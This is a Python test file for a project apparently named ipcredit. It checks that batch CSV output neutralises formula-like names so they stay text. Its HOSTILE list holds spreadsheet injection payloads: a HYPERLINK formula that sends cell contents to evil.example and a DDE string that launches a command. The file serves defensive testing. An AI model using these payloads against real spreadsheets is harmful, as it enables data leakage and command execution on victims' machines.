"""Batch CSV output is safe to open in a spreadsheet: names that look like formulas stay text."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from ipcredit.batch.facts_table import facts_tables
from ipcredit.spreadsheet_safe import neutralize, neutralize_table
from ipcredit.standard.facts import parse_facts
from ipcredit.yamlio import load_file

EXAMPLES = Path(__file__).resolve().parents[3] / "examples"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1"]


def test_neutralize_prefixes_formula_starts_only():
    assert [neutralize(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralize("华信专利材料股份有限公司") == "华信专利材料股份有限公司"
    assert neutralize(-5) == -5 and neutralize(None) is None
    table = neutralize_table(pa.table({"name": ["=1", "ok"], "total": [-1.5, 2.0]}))
    assert table.column("name").to_pylist() == ["'=1", "ok"] and table.column("total").to_pylist() == [-1.5, 2.0]


def test_neutralize_table_covers_dictionary_encoded_text():
    """The batch results hold the grade label and the model's id, version and profile as
    dictionary-encoded strings: a model whose id looks like a formula is neutralised too."""
    labels = pa.DictionaryArray.from_arrays(pa.array([0, 1, 0, None], pa.int8()), pa.array(["=cmd", "ok"]))
    table = neutralize_table(pa.table({"model_id": pa.chunked_array([labels, labels.slice(1, 2)])}))
    assert table.column("model_id").to_pylist() == ["'=cmd", "ok", "'=cmd", None, "ok", "'=cmd"]
    assert table.schema.field("model_id").type == pa.dictionary(pa.int8(), pa.string())


def test_batch_results_csv_keeps_formula_like_names_as_text(tmp_path):
    base = parse_facts(load_file(EXAMPLES / "sample-a.yaml"))
    name = HOSTILE[0]
    facts = [base.model_copy(update={"enterprise": base.enterprise.model_copy(update={"name": name})})]
    table, recs = facts_tables(facts)
    (tmp_path / "recs").mkdir()
    pq.write_table(table, tmp_path / "facts.parquet")
    pq.write_table(recs, tmp_path / "recs" / "records.parquet")
    res = subprocess.run([sys.executable, "-m", "ipcredit.cli.main", "batch", "score", "--facts",
                          str(tmp_path / "facts.parquet"), "--records", str(tmp_path / "recs"), "-o", str(tmp_path / "out")],
                         capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr
    with (tmp_path / "out" / "results.csv").open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    texts = [v for row in rows for v in row.values()]
    assert "'" + name in texts and name not in texts
    assert name in pq.read_table(tmp_path / "out" / "results.parquet").to_pylist()[0].values()   # data unchanged
